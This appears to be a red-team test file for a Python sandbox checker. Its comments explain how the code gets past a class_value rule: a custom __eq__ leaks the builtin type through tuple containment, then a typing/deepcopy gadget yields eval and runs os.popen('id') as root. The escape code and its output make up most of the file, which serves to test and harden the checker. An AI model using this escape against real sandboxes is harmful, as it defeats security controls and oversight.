# expect: reject class_value
# line: 31
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fourteenth red team (round 14a), family E: a class by value handed to the program's __eq__ through containment (an element of a tuple on the right of in, typing.get_args's tuple) or a dict lookup whose key of the program forges the class's hash (the red team's program)
# Mechanism: rule class_value lets type(x) stand as the right operand of 'in' (wk_safe_comparison: 'x 
# in c' is skipped as inspection) and wk_check_class_value first climbs through parenthesized 
# expressions AND TUPLE DISPLAYS, so 'g in (type(P),)' is judged as 'g in type(P)'. But tuple 
# containment runs element == g, and type.__eq__ returning NotImplemented, the program's reflected 
# Grab.__eq__(type) receives the class, and raises LookupError(other). With P a class of the program, 
# type(P) is the BUILTIN type: no library class is a value anywhere.
# Goal reached: the builtin type by value, then eval by value (typing._GenericAlias + copy.deepcopy, 
# the 11b end gadget), called: runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD dc5a2f6
# No dunder name is given to a builtin at run time.
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import copy
import typing

class P:
    pass

class Grab:
    def __eq__(self, other):
        raise LookupError(other)

g = Grab()
try:
    g in (type(P),)
except Exception as e:
    T = e.args[0]
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
